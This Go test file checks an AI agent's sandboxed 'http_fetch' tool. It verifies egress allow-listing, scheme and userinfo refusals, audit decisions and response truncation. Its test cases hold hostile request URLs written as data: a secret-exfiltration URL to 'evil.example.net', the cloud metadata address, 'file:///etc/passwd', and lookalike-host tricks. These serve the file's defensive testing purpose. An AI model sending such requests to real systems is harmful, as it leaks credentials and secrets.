package builtin

import (
	"bytes"
	"context"
	"errors"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/agora-dev/agora/internal/grant"
	"github.com/agora-dev/agora/internal/toolreg"
)

// fakeFetch records requests and answers with a fixed response.
type fakeFetch struct {
	calls  []string // "METHOD url"
	status int
	ctype  string
	body   []byte
	err    error
}

func (f *fakeFetch) fetch(_ context.Context, rawURL, method string) (int, string, []byte, error) {
	f.calls = append(f.calls, method+" "+rawURL)
	return f.status, f.ctype, f.body, f.err
}

func TestHTTPFetch(t *testing.T) {
	grants := grant.Set{Tools: []string{"http_fetch"}, Egress: grant.MustEgressRules("api.example.com", "*.github.com")}
	tests := []struct {
		name       string
		args       map[string]any
		fake       fakeFetch
		wantCalls  []string
		want       string
		wantDenied string // audit reason of a refusal
		wantErr    string
	}{
		{
			name: "granted host", args: map[string]any{"url": "https://api.example.com/v1/items?q=1"},
			fake:      fakeFetch{status: 200, ctype: "application/json", body: []byte(`{"ok":true}`)},
			wantCalls: []string{"GET https://api.example.com/v1/items?q=1"},
			want:      "status: 200\ncontent-type: application/json\n\n{\"ok\":true}",
		},
		{
			name: "HEAD on a wildcard subdomain", args: map[string]any{"url": "http://raw.github.com/x", "method": "HEAD"},
			fake:      fakeFetch{status: 404, ctype: "text/plain"},
			wantCalls: []string{"HEAD http://raw.github.com/x"},
			want:      "status: 404\ncontent-type: text/plain\n\n",
		},
		{
			name: "host case folded", args: map[string]any{"url": "https://API.Example.com/"},
			fake:      fakeFetch{status: 200},
			wantCalls: []string{"GET https://API.Example.com/"},
			want:      "status: 200\ncontent-type: \n\n",
		},
		{
			name: "binary body", args: map[string]any{"url": "https://api.example.com/img"},
			fake:      fakeFetch{status: 200, ctype: "image/png", body: []byte("\x89PNG\x00\x00")},
			wantCalls: []string{"GET https://api.example.com/img"},
			want:      "status: 200\ncontent-type: image/png\n\n[binary body: 6 bytes; not shown]",
		},
		{name: "ungranted host", args: map[string]any{"url": "https://evil.example.net/steal?k=" + planted}, wantDenied: ReasonHostNotGranted},
		{name: "apex of a wildcard", args: map[string]any{"url": "https://github.com/"}, wantDenied: ReasonHostNotGranted},
		{name: "suffix lookalike", args: map[string]any{"url": "https://api.example.com.evil.net/"}, wantDenied: ReasonHostNotGranted},
		{name: "private address", args: map[string]any{"url": "http://169.254.169.254/latest/meta-data"}, wantDenied: ReasonHostNotGranted},
		{name: "file scheme", args: map[string]any{"url": "file:///etc/passwd"}, wantDenied: ReasonSchemeRefused},
		{name: "ftp scheme", args: map[string]any{"url": "ftp://api.example.com/x"}, wantDenied: ReasonSchemeRefused},
		{name: "no scheme", args: map[string]any{"url": "api.example.com/x"}, wantDenied: ReasonSchemeRefused},
		{name: "userinfo", args: map[string]any{"url": "https://user:" + planted + "@api.example.com/"}, wantDenied: ReasonUserinfo},
		{name: "userinfo trick", args: map[string]any{"url": "https://api.example.com@evil.net/"}, wantDenied: ReasonUserinfo},
		{name: "opaque", args: map[string]any{"url": "https:api.example.com"}, wantDenied: ReasonNoHost},
		{name: "malformed", args: map[string]any{"url": "https://api.example.com/%zz"}, wantErr: "http_fetch: malformed url"},
		{name: "bad port", args: map[string]any{"url": "https://api.example.com:99999999999/"}, wantErr: "http_fetch: malformed url: bad port"},
		{
			name: "fetch error keeps only the cause", args: map[string]any{"url": "https://api.example.com/?token=" + planted},
			fake:      fakeFetch{err: &url.Error{Op: "Get", URL: "https://api.example.com/?token=" + planted, Err: errors.New("gateway refused")}},
			wantCalls: []string{"GET https://api.example.com/?token=" + planted},
			wantErr:   "http_fetch: request failed: gateway refused",
		},
		{
			name: "gateway refusal is a denial", args: map[string]any{"url": "https://api.example.com/"},
			fake:       fakeFetch{err: &toolreg.DeniedError{Tool: "http_fetch", Reason: "refused by the gateway", Hint: "address 10.0.0.1 is private"}},
			wantCalls:  []string{"GET https://api.example.com/"},
			wantDenied: "refused by the gateway",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, grant.Set{})
			f.env.Fetch = tt.fake.fetch
			f.grant(t, grants)
			res, err := f.call(t, "http_fetch", tt.args)
			if diff := cmp.Diff(tt.wantCalls, tt.fake.calls); diff != "" {
				t.Errorf("fetches (-want +got):\n%s", diff)
			}
			switch {
			case tt.wantDenied != "":
				var de *toolreg.DeniedError
				if !errors.As(err, &de) || de.Reason != tt.wantDenied {
					t.Fatalf("got %q, %v; want a refusal %q", res.Content, err, tt.wantDenied)
				}
				if strings.Contains(err.Error(), planted) {
					t.Errorf("error %q repeats the URL", err)
				}
				f.wantDecision(t, "http_fetch", toolreg.DecisionDenied, tt.wantDenied)
			case tt.wantErr != "":
				if err == nil || err.Error() != tt.wantErr {
					t.Fatalf("got %q, %v; want error %q", res.Content, err, tt.wantErr)
				}
				f.wantDecision(t, "http_fetch", toolreg.DecisionError, "tool error: "+tt.wantErr)
			default:
				mustDo(t, err)
				if res.Content != tt.want {
					t.Errorf("got %q, want %q", res.Content, tt.want)
				}
				f.wantDecision(t, "http_fetch", toolreg.DecisionAllowed, toolreg.ReasonGranted)
			}
		})
	}
}

func TestHTTPFetch_Limits(t *testing.T) {
	grants := grant.Set{Tools: []string{"http_fetch"}, Egress: grant.MustEgressRules("api.example.com")}
	t.Run("POST is refused by the schema", func(t *testing.T) {
		fake := &fakeFetch{}
		f := newFixture(t, grant.Set{})
		f.env.Fetch = fake.fetch
		f.grant(t, grants)
		_, err := f.call(t, "http_fetch", map[string]any{"url": "https://api.example.com/", "method": "POST"})
		var ae *toolreg.ArgsError
		if !errors.As(err, &ae) || len(fake.calls) != 0 {
			t.Fatalf("got %v with %d fetches, want an ArgsError and none", err, len(fake.calls))
		}
		f.wantDecision(t, "http_fetch", toolreg.DecisionError, `invalid arguments: property "method": not one of the allowed values "GET", "HEAD"`)
	})
	t.Run("body capped", func(t *testing.T) {
		fake := &fakeFetch{status: 200, ctype: "text/plain", body: bytes.Repeat([]byte("a"), maxFetchBody+10)}
		f := newFixture(t, grant.Set{})
		f.env.Fetch = fake.fetch
		f.grant(t, grants)
		res, err := f.call(t, "http_fetch", map[string]any{"url": "https://api.example.com/"})
		mustDo(t, err)
		want := "\n[body truncated: 1048576 of 1048586 bytes shown]"
		if !strings.HasSuffix(res.Content, want) || len(res.Content) != len("status: 200\ncontent-type: text/plain\n\n")+maxFetchBody+len(want) {
			t.Errorf("got %d bytes, want the body cut at %d and %q", len(res.Content), maxFetchBody, want)
		}
	})
	t.Run("no fetcher", func(t *testing.T) {
		f := newFixture(t, grants)
		_, err := f.call(t, "http_fetch", map[string]any{"url": "https://api.example.com/"})
		if err == nil || err.Error() != "http_fetch: no fetcher is configured in this sandbox" {
			t.Errorf("got %v", err)
		}
	})
}
